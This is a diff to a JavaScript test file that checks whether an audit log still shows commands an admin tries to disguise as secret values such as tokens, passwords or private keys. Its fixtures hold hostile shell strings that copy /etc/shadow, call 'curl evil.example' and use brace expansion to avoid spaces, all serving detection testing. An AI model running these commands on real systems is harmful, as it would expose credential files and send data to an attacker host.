@@ -41,6 +41,27 @@ describe('an admin who wants to run a command unseen', () => {
   });
 
   test.each([
+    `: "token="; ${COMMAND}; : ""`,
+    `: '--password '; ${COMMAND}; : ''`,
+    `sh -c ': "api_key: "; ${COMMAND}; ""'`,
+    `: --token "$(${COMMAND})"`,
+    `TOKEN='\n'\n${COMMAND}\n: ''`,
+  ])('is seen where it stands like the value of a secret: %j', async (command) => {
+    expect(JSON.stringify((await entryOf(command)).details)).toContain(
+      '/etc/shadow /tmp/x; curl evil.example',
+    );
+  });
+
+  test.each([
+    ': "token=";{cp,/etc/shadow,/tmp/x};:""',
+    ': --token $({cp,/etc/shadow,/tmp/x})',
+    ': PASSWORD=`{cp,/etc/shadow,/tmp/x}`',
+    ': x://a:;PATH=$PATH:{cp,\\/etc\\/shadow,x};:@'.replaceAll('\\/', '$S'),
+  ])('is seen there without a blank in it as well: %j', async (command) => {
+    expect(JSON.stringify((await entryOf(command)).details)).toContain('{cp,');
+  });
+
+  test.each([
     `: '-----BEGIN A PRIVATE KEY-----'; ${COMMAND}`,
     `: -----BEGIN A PRIVATE KEY-----\n${COMMAND}`,
     `: '-----BEGIN A PRIVATE KEY-----'; ${COMMAND}; : '-----END A PRIVATE KEY-----'`,
